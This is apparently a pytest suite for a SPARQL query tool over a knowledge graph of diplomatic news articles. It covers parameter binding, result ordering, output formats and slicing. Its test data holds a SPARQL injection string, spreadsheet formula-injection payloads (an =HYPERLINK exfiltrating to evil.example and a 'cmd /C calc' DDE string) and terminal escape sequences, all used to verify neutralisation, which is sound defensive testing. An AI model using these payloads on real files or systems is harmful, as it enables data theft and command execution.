"""The stored queries: headers, result columns, parameter binding, ordering."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import time
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner
from rdflib import Graph, Literal, URIRef

from diplokg.cli import cli
from diplokg.errors import QueryError, UsageError
from diplokg.rdf.convert import ArticleGraph
from diplokg.store.queries import (
    FORMULA_START,
    MAX_ROWS,
    CsvGuard,
    QueryResult,
    StoredQuery,
    check_slice,
    format_table,
    get_query,
    neutralise_cell,
    neutralise_csv,
    parse_stored_query,
    run_query,
    serialize_result,
    slice_query,
    stored_queries,
    write_result,
)

ROOT = Path(__file__).resolve().parents[2]
QUERY_DIR = ROOT / "queries"
SEED = "https://w3id.org/diplokg/article/000_7f87956a7e0403ad/"

# The result columns each stored query promises, in order.
VARIABLES: dict[str, list[str]] = {
    "absences": [
        "absence", "absentee", "absenteeName", "event", "eventLabel", "placeName", "reason",
        "reasonFactuality",
    ],
    "accusations": [
        "accusation", "accuser", "accuserName", "accused", "accusedName", "about", "factuality",
    ],
    "agreement-details": ["agreement", "kind", "status", "duration", "purpose", "reportedByNames"],
    "agreements": ["agreement", "party", "partyName", "kind", "status", "date", "duration"],
    "event-details": ["event", "label", "kind", "status", "occasionName", "topic", "note"],
    "event-order": [
        "earlier", "earlierLabel", "earlierStatus", "later", "laterLabel", "laterStatus",
    ],
    "evidence": ["article", "begin", "end", "text"],
    "meetings": [
        "meeting", "participant", "participantName", "place", "placeName", "date",
        "occasionName", "status", "kind", "earliest", "latest",
    ],
    "mentions": ["entity", "name", "text"],
    "organizations": ["organization", "name", "kind"],
    "people": ["person", "name", "role", "organization", "organizationName", "status"],
    "places": ["place", "name", "country", "countryName"],
    "predecessors": [
        "holding", "person", "personName", "role", "organizationName", "predecessor",
        "predecessorName", "predecessorHolding",
    ],
    "quotes": ["quote", "speaker", "speakerName", "text", "reportedByNames"],
    "reporting-chains": ["fact", "factLabel", "step", "agent", "agentName", "via"],
    "statement-contents": [
        "statement", "summary", "adopterCount", "issuedAt", "concerns", "quote", "text",
    ],
    "statements": ["statement", "issuer", "issuerName", "kind", "date"],
    "timeline": ["event", "label", "date", "kind", "earliest", "latest", "status"],
    "who-said": ["quote", "speaker", "speakerName", "text", "reportedByNames"],
}  # fmt: skip

# A value for each parameter, for running every query.
SAMPLE_PARAMS: dict[str, dict[str, str]] = {
    "evidence": {"fact": SEED + "qin-gang-absent-from-jakarta"},
    "who-said": {"name": "Wang Yi"},
}

HOSTILE = 'x") || true || LCASE("} # } SELECT * WHERE { ?s ?p ?o } #'


def run(
    store: ox.Store, query: str, params: dict[str, str] | None = None
) -> list[tuple[str | None, ...]]:
    """A stored query's rows as plain strings, parameter echo columns left out."""
    result = run_query(store, get_query(query), params or {})
    keep = [i for i, v in enumerate(result.variables) if not v.startswith("_")]
    return [tuple(row[i] for i in keep) for row in result.values()]


def test_stored_queries_are_the_documented_ones() -> None:
    assert [q.name for q in stored_queries()] == sorted(VARIABLES)


@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_stored_query_has_summary_and_description(query: StoredQuery) -> None:
    assert query.title
    assert len(query.description) > 40
    for param in query.params:
        assert param.description


@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_a_query_read_alone_is_the_query_with_its_header_read(query: StoredQuery) -> None:
    """get_query reads no header for a query without ?_ variables: it must lose nothing."""
    alone = get_query(query.name)
    assert (alone.name, alone.text, alone.params) == (query.name, query.text, query.params)
    assert (alone.title, alone.description) == (query.title, query.description)


def test_a_header_that_declares_parameters_the_text_lacks_is_refused() -> None:
    text = "#+ summary: s\n#+ description: d\n#+ params:\n#+   - name: x\nSELECT * { ?s ?p ?o }"
    with pytest.raises(QueryError, match="do not match"):
        parse_stored_query("bad", text)


@pytest.mark.parametrize("name", sorted(VARIABLES))
def test_stored_query_returns_its_variables_in_order(seed_store: ox.Store, name: str) -> None:
    query = get_query(name)
    result = run_query(seed_store, query, SAMPLE_PARAMS.get(name, {}))
    declared = tuple(VARIABLES[name])
    # pyoxigraph binds a parameter only if the query projects it: parameterised queries
    # echo their ?_param variables after the promised columns.
    echoes = tuple("_" + p.name for p in query.params)
    assert result.variables in (declared, declared + echoes)
    assert result.rows, f"{name} returns nothing on the seed article"


# --- parameters are bound as RDF terms, never pasted into the text ------------------------


def test_hostile_literal_parameter_matches_nothing(seed_store: ox.Store) -> None:
    query = get_query("who-said")
    before = query.text
    assert run_query(seed_store, query, {"name": HOSTILE}).rows == ()
    assert query.text == before == (QUERY_DIR / "who-said.rq").read_text(encoding="utf-8")


def test_literal_parameter_is_bound_as_one_plain_literal(seed_store: ox.Store) -> None:
    assert run_query(seed_store, get_query("who-said"), {"name": 'Wang Yi"'}).rows == ()
    result = run_query(seed_store, get_query("who-said"), {"name": "wang YI"})
    assert len(result.rows) == 3
    if "_name" in result.variables:  # the echo column pyoxigraph needs to bind it
        column = result.variables.index("_name")
        assert {row[column] for row in result.rows} == {ox.Literal("wang YI")}


@pytest.mark.parametrize(
    ("query", "name", "value"),
    [
        ("who-said", "name", "Wang Yi\n"),
        ("who-said", "name", "Wang\tYi"),
        ("evidence", "fact", SEED + "x\r"),
    ],
)
def test_a_parameter_with_a_control_character_is_refused(
    seed_store: ox.Store, query: str, name: str, value: str
) -> None:
    """A value pasted with its line end ("Wang Yi\n") matched nothing, without a word."""
    with pytest.raises(QueryError, match="holds a control character"):
        run_query(seed_store, get_query(query), {name: value})


@pytest.mark.parametrize("value", ["not an iri", "qin-gang-absent-from-jakarta", f"<{SEED}x>"])
def test_iri_parameter_must_be_an_absolute_iri(seed_store: ox.Store, value: str) -> None:
    with pytest.raises(QueryError, match="absolute IRI"):
        run_query(seed_store, get_query("evidence"), {"fact": value})


def test_unknown_iri_parameter_gives_no_rows(seed_store: ox.Store) -> None:
    assert run(seed_store, "evidence", {"fact": SEED + "no-such-fact"}) == []


def test_unknown_parameter_is_an_error(seed_store: ox.Store) -> None:
    with pytest.raises(QueryError, match="no parameter 'person'"):
        run_query(seed_store, get_query("who-said"), {"name": "Wang Yi", "person": "x"})
    with pytest.raises(QueryError, match="no parameter 'name'"):
        run_query(seed_store, get_query("people"), {"name": "Wang Yi"})


def test_missing_parameter_is_an_error(seed_store: ox.Store) -> None:
    with pytest.raises(QueryError, match="needs --param name"):
        run_query(seed_store, get_query("who-said"))
    with pytest.raises(QueryError, match="needs --param fact"):
        run_query(seed_store, get_query("evidence"), {})


# --- who-said matches names and aliases whatever their case -------------------------------

WANG_YI_QUOTES = {
    SEED + "wang-quote-concrete-measures",
    SEED + "wang-quote-rational-attitude",
    SEED + "wang-quote-support",
}


@pytest.mark.parametrize(
    ("name", "quotes"),
    [
        ("blinken", {SEED + "blinken-quote-urgent", SEED + "blinken-quote-channels"}),
        ("ANTONY blinken", {SEED + "blinken-quote-urgent", SEED + "blinken-quote-channels"}),
        ("WANG YI", WANG_YI_QUOTES),
        (
            "the alliance",
            {
                SEED + "nato-quote-ambitions",
                SEED + "nato-quote-tools",
                SEED + "nato-quote-target-allies",
            },
        ),
        ("us official who remained anonymous", {SEED + "official-quote-concern"}),
        ("CHINESE MISSION TO THE EU", {SEED + "delegation-quote-oppose"}),
        ("QIN QANG", set()),  # Qin Gang's alias; the article quotes him nowhere
        ("Wang", set()),  # names match whole, not in part
    ],
)
def test_who_said_matches_names_and_aliases_ignoring_case(
    seed_store: ox.Store, name: str, quotes: set[str]
) -> None:
    rows = run(seed_store, "who-said", {"name": name})
    assert {row[0] for row in rows} == quotes
    assert len(rows) == len(quotes)


def test_who_said_gives_the_same_rows_as_quotes(seed_store: ox.Store) -> None:
    everything = run(seed_store, "quotes")
    wang = run(seed_store, "who-said", {"name": "wang yi"})
    assert sorted(wang, key=str) == sorted((r for r in everything if r[2] == "Wang Yi"), key=str)


# --- ordering ------------------------------------------------------------------------------


def sidelines_dates(store: ox.Store) -> dict[str, str]:
    """The earliest date of the events held on each event's sidelines."""
    solutions = store.query(
        "PREFIX dk: <https://w3id.org/diplokg/ontology#> "
        "SELECT ?event ?date WHERE { ?side dk:occasion ?event ; dk:date ?date }",
        use_default_graph_as_union=True,
    )
    assert isinstance(solutions, ox.QuerySolutions)
    dates: dict[str, str] = {}
    for s in solutions:
        event, date = s["event"].value, s["date"].value
        dates[event] = min(dates.get(event, date), date)
    return dates


def test_timeline_is_in_sort_key_order(seed_store: ox.Store) -> None:
    result = run_query(seed_store, get_query("timeline"))
    occasion_dates = sidelines_dates(seed_store)
    keys = []
    for event, label, date, _kind, earliest, latest, _status in result.values():
        sidelines = occasion_dates.get(str(event))
        key = date or sidelines or latest or earliest
        rank = 2 if date else 1 if sidelines else 0 if latest else 3
        assert key is not None and label is not None
        dt.date.fromisoformat(key[:10] if len(key) >= 10 else key + "-01")
        keys.append((key, rank, label))
    assert keys == sorted(keys)
    assert len(keys) == 11


def test_timeline_keeps_the_article_order_of_events(seed_store: ox.Store) -> None:
    events = [row[0] for row in run(seed_store, "timeline")]
    for earlier, _, _, later, _, _ in run(seed_store, "event-order"):
        assert events.index(earlier) < events.index(later)


def test_quote_chains_follow_step_order(seed_store: ox.Store) -> None:
    chains = {row[0]: row[4] for row in run(seed_store, "quotes")}
    steps: dict[str, list[tuple[int, str]]] = {}
    for fact, _, step, _, agent_name, via in run(seed_store, "reporting-chains"):
        assert fact is not None and step is not None and agent_name is not None
        if via == "relay":
            steps.setdefault(fact, []).append((int(step), agent_name))
    for quote, chain in chains.items():
        assert chain == " > ".join(name for _, name in sorted(steps.get(str(quote), [])))


def test_evidence_is_in_text_order(seed_store: ox.Store) -> None:
    rows = run(seed_store, "evidence", {"fact": SEED + "blinken-wang-jakarta"})
    begins = [int(str(row[1])) for row in rows]
    assert begins == sorted(begins)
    assert len(begins) == 3


# --- plain SPARQL 1.1: another engine gives the same answers ------------------------------


@pytest.fixture(scope="module")
def rdflib_graph(seed: ArticleGraph) -> Graph:
    """The seed graph and the ontology in one rdflib graph (a second SPARQL engine)."""
    graph = Graph()
    for triple in seed.graph:
        graph.add(triple)
    graph.parse(ROOT / "ontology" / "diplokg.ttl", format="turtle")
    return graph


@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_rdflib_gives_the_same_answer(
    seed_store: ox.Store, rdflib_graph: Graph, query: StoredQuery
) -> None:
    params = SAMPLE_PARAMS.get(query.name, {})
    bindings = {
        "_" + p.name: URIRef(params[p.name]) if p.kind == "iri" else Literal(params[p.name])
        for p in query.params
    }
    answer = rdflib_graph.query(query.text, initBindings=bindings)
    public = [i for i, v in enumerate(answer.vars or []) if not str(v).startswith("_")]
    theirs = [
        tuple(None if row[i] is None else str(row[i]) for i in public)  # type: ignore[index]
        for row in answer
    ]
    ours = run_query(seed_store, query, params).values()
    if query.name == "timeline":
        assert theirs == ours
    else:
        assert sorted(theirs, key=str) == sorted(ours, key=str)


# --- streamed output: the bytes of the in-memory formatter, formula cells neutralised -----

#: Literals a spreadsheet would run, and CSV's own special characters around them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "=line one\n=line two, with a comma",
    'a "quoted" =cell',
    "plain, with comma",
]


@pytest.fixture(scope="module")
def nasty_store(seed_store: ox.Store) -> ox.Store:
    """The seed store with names, labels and quote texts that spreadsheets would run."""
    store = ox.Store()
    store.extend(seed_store)
    dk = "https://w3id.org/diplokg/ontology#"
    names = [
        q
        for q in seed_store.quads_for_pattern(None, ox.NamedNode(dk + "name"), None)
        if isinstance(q.subject, ox.NamedNode)
    ]
    quotes = list(seed_store.quads_for_pattern(None, ox.NamedNode(dk + "quoteText"), None))
    # Every name and quote, not the first few: which quads come first is the store's
    # order, and a few might all be organisations' names that `people` never shows.
    for i, quad in enumerate(names + quotes):
        store.remove(quad)
        value = FORMULAS[i % len(FORMULAS)]
        store.add(ox.Quad(quad.subject, quad.predicate, ox.Literal(value), quad.graph_name))
    return store


@pytest.fixture(scope="module")
def synthetic_store(tmp_path_factory: pytest.TempPathFactory) -> ox.Store:
    """A store of 60 synthetic articles (benchmarks/corpus.py) in the build layout."""
    from benchmarks.corpus import article_graphs, generate_corpus

    from diplokg.store.embedded import load_ontology_graph, write_articles

    corpus = tmp_path_factory.mktemp("corpus")
    generate_corpus(60, corpus, sources=False, workers=1)
    store = ox.Store()
    write_articles(store, article_graphs(corpus))
    load_ontology_graph(store)
    return store


STORES = ["seed_store", "nasty_store", "synthetic_store"]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "json"])
@pytest.mark.parametrize("store_name", STORES)
@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_streamed_bytes_are_the_formatters_bytes(
    request: pytest.FixtureRequest, store_name: str, query: StoredQuery, fmt: str
) -> None:
    store = request.getfixturevalue(store_name)
    params = SAMPLE_PARAMS.get(query.name, {})
    out = io.BytesIO()
    write_result(out, store, query, params, fmt)
    assert out.getvalue() == serialize_result(store, query, params, fmt).encode("utf-8")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in FORMULA_START]


@pytest.mark.parametrize("store_name", STORES)
@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_the_table_read_from_the_engines_tsv_is_the_table_of_the_terms(
    request: pytest.FixtureRequest, store_name: str, query: StoredQuery
) -> None:
    store = request.getfixturevalue(store_name)
    params = SAMPLE_PARAMS.get(query.name, {})
    out = io.BytesIO()
    write_result(out, store, query, params, "table")
    expected = format_table(run_query(store, query, params)) + "\n"
    assert out.getvalue().decode("utf-8") == expected
    if store_name == "seed_store":
        assert expected.count("\n") > 3 or query.name in ("event-order", "predecessors")


def test_the_table_shows_every_kind_of_term_as_format_table_does() -> None:
    store = ox.Store()
    s, p = ox.NamedNode("http://example.org/s"), ox.NamedNode("http://example.org/p")
    quoted = ox.Triple(s, p, ox.Literal("o", language="en"))
    store.add(ox.Quad(s, p, quoted))
    store.add(
        ox.Quad(
            s, p, ox.Literal("2", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#integer"))
        )
    )
    store.add(ox.Quad(s, ox.NamedNode("http://example.org/q"), ox.BlankNode("b1")))
    text = (
        "SELECT ?iri ?t ?o ?l ?d ?b ?unbound WHERE { ?iri ?p ?t . FILTER(isTRIPLE(?t)) "
        "?iri ?p ?o . FILTER(isLITERAL(?o)) "
        'BIND("a\\nb \\u001b \\u202e ' + "x" * 80 + '"@en AS ?l) '
        'BIND(STRDT("tab\\there \\"quoted\\" back\\\\slash\\r", <http://example.org/dt>) AS ?d) '
        "?iri <http://example.org/q> ?b }"
    )
    query = StoredQuery("kinds", text)
    out = io.BytesIO()
    write_result(out, store, query, {}, "table")
    assert out.getvalue().decode("utf-8") == format_table(run_query(store, query)) + "\n"
    assert '<http://example.org/s> <http://example.org/p> "o"@en' in out.getvalue().decode()
    assert 'tab here "quoted" back\\slash  b1' in out.getvalue().decode()


def test_formula_cells_are_neutralised_in_the_csv(nasty_store: ox.Store) -> None:
    out = io.BytesIO()
    write_result(out, nasty_store, get_query("people"), {}, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    names = {row["name"] for row in rows}
    assert {n for n in names if n.startswith("'")}, names  # some were formulas
    engine = nasty_store.query(get_query("people").text, use_default_graph_as_union=True)
    assert isinstance(engine, ox.QuerySolutions)
    assert {neutralise_cell(s["name"].value) for s in engine if s["name"]} == names


def _random_csv(rng: random.Random, rows: int) -> str:
    alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "a", "b", " ", "é", "'"]
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["x", "y", "z"])
    for _ in range(rows):
        writer.writerow(["".join(rng.choices(alphabet, k=rng.randint(0, 6))) for _ in range(3)])
    return out.getvalue()


@pytest.mark.parametrize("seed", range(20))
def test_csv_guard_neutralises_exactly_the_cells_that_start_a_formula(seed: int) -> None:
    rng = random.Random(seed)  # noqa: S311 - test data
    text = _random_csv(rng, 200)
    data = text.encode("utf-8")
    expected = [
        [neutralise_cell(cell) for cell in row] if i else row
        for i, row in enumerate(csv.reader(io.StringIO(text, newline="")))
    ]
    out = io.BytesIO()
    guard = CsvGuard(out)
    at = 0
    while at < len(data):  # fed in pieces cut anywhere, as a serializer may write them
        step = rng.randint(1, 40)
        guard.write(data[at : at + step])
        at += step
    guard.close()
    result = out.getvalue().decode("utf-8")
    assert list(csv.reader(io.StringIO(result, newline=""))) == expected
    assert result == neutralise_csv(text)


# --- --limit and --offset ----------------------------------------------------------------


@pytest.mark.parametrize(("limit", "offset"), [(0, None), (1, None), (3, 2), (None, 4), (1000, 0)])
@pytest.mark.parametrize("query", stored_queries(), ids=lambda q: q.name)
def test_limit_and_offset_slice_every_stored_query(
    synthetic_store: ox.Store, query: StoredQuery, limit: int | None, offset: int | None
) -> None:
    params = SAMPLE_PARAMS.get(query.name, {})
    whole = run_query(synthetic_store, query, params).rows
    part = run_query(synthetic_store, query, params, limit=limit, offset=offset).rows
    start = offset or 0
    end = len(whole) if limit is None else start + limit
    assert len(part) == len(whole[start:end])
    assert set(part) <= set(whole)


@pytest.mark.parametrize("args", [["--limit", "-1"], ["--offset", "-3"], ["--limit", "x"]])
def test_limit_and_offset_must_be_whole_numbers_from_zero(args: list[str]) -> None:
    result = CliRunner().invoke(cli, ["query", "people", *args])
    assert result.exit_code == 2
    with pytest.raises(UsageError, match="whole number of rows"):
        check_slice(-1, None)
    with pytest.raises(UsageError, match="whole number of rows"):
        check_slice(None, True)


@pytest.mark.parametrize("option", ["--limit", "--offset"])
@pytest.mark.parametrize("value", [str(2**63), str(2**64), "9" * 40])
def test_a_count_beyond_64_bits_is_a_usage_error_not_a_crash(
    option: str, value: str, seed: ArticleGraph, tmp_path: Path
) -> None:
    """The engine reads LIMIT and OFFSET as 64-bit counts; a larger one is refused first."""
    from diplokg.rdf.formats import RdfFormat
    from diplokg.rdf.output import serialize_graph

    data = tmp_path / "seed.trig"
    data.write_bytes(serialize_graph(seed.graph, seed.graph_iri, RdfFormat.TRIG))
    query = ["query", "people", "--data", str(data)]
    result = CliRunner().invoke(cli, [*query, option, value])
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"error: {option} must be a whole number of rows, 0 to {MAX_ROWS}, not {value}\n"
    )
    whole = CliRunner().invoke(cli, query)
    edge = CliRunner().invoke(cli, [*query, option, str(MAX_ROWS)])
    assert edge.exit_code == 0, edge.output
    assert (edge.stdout == whole.stdout) if option == "--limit" else ("(0 rows)" in edge.stdout)


def test_cli_limit_and_offset_give_the_rows_of_the_whole_answer(
    seed: ArticleGraph, tmp_path: Path
) -> None:
    from diplokg.rdf.formats import RdfFormat
    from diplokg.rdf.output import serialize_graph

    data = tmp_path / "seed.trig"
    data.write_bytes(serialize_graph(seed.graph, seed.graph_iri, RdfFormat.TRIG))
    runner = CliRunner()
    whole = runner.invoke(cli, ["query", "timeline", "--data", str(data), "--format", "csv"])
    part = runner.invoke(
        cli,
        [
            "query",
            "timeline",
            "--data",
            str(data),
            "--format",
            "csv",
            "--limit",
            "3",
            "--offset",
            "2",
        ],
    )
    assert whole.exit_code == part.exit_code == 0
    lines = whole.stdout_bytes.split(b"\r\n")
    assert len(lines) > 6
    assert part.stdout_bytes.split(b"\r\n") == [lines[0], *lines[3:6], b""]


def test_a_query_that_already_slices_is_not_sliced_twice() -> None:
    with pytest.raises(QueryError, match="cannot be sliced"):
        slice_query("SELECT * WHERE { ?s ?p ?o } LIMIT 5", limit=1)
    assert slice_query("SELECT * WHERE { ?s ?p ?o } # LIMIT 5", limit=1).endswith("LIMIT 1\n")


# --- streaming: the first rows before the rest is computed --------------------------------


class _Stop(Exception):
    pass


class _FirstWrite(io.RawIOBase):
    """An output that stops everything at the first bytes written (a reader like `head`)."""

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:  # type: ignore[override]
        raise _Stop


@pytest.mark.parametrize("fmt", ["csv", "tsv", "json"])
def test_first_rows_of_an_unsorted_result_arrive_before_the_rest_is_computed(
    seed_store: ox.Store, fmt: str
) -> None:
    # Billions of rows: computed whole, this would take hours.
    huge = StoredQuery("huge", "SELECT ?a ?b ?c WHERE { ?a ?p ?x . ?b ?q ?y . ?c ?r ?z }")
    start = time.perf_counter()
    with pytest.raises(_Stop):
        write_result(_FirstWrite(), seed_store, huge, {}, fmt)  # type: ignore[arg-type]
    assert time.perf_counter() - start < 5


# --- the table: no terminal control characters --------------------------------------------


def test_table_cells_show_control_characters_escaped() -> None:
    row = (ox.Literal("red \x1b[31mALERT\x1b[0m\x07 and \x9b2J"),)
    table = format_table(QueryResult(("x",), (row,)))
    assert "\x1b" not in table and "\x07" not in table and "\x9b" not in table
    assert "red \\x1b[31mALERT\\x1b[0m\\x07 and \\x9b2J" in table
